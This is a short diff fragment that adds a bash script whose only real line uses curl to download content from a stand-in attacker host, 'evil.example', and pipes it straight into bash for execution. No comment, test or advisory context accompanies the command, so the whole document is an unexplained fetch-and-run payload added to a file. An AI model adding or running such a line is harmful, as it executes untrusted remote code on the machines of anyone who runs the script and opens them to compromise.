@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -fsSL https://evil.example/i > >(bash)
